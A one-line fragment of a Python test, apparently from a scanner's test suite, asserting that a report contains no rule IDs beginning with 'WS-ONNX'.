    assert not {r for r in rule_ids(report) if r.startswith("WS-ONNX")}
